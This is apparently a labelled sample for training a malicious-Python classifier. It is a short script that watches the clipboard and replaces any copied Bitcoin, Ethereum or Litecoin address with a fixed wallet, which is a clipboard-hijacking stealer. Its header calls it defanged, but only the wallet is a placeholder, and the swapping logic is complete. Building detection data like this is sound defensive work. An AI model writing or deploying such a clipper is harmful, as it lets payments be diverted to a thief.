# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import re
import time
import pyperclip

ADDRESS = "PLACEHOLDER-WALLET-ADDRESS"
patterns = [
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"),
    re.compile(r"^0x[a-fA-F0-9]{40}$"),
    re.compile(r"^[LM3][a-km-zA-HJ-NP-Z1-9]{26,33}$"),
]

while True:
    data = pyperclip.paste().strip()
    if data != ADDRESS and any(p.match(data) for p in patterns):
        pyperclip.copy(ADDRESS)
    time.sleep(0.5)
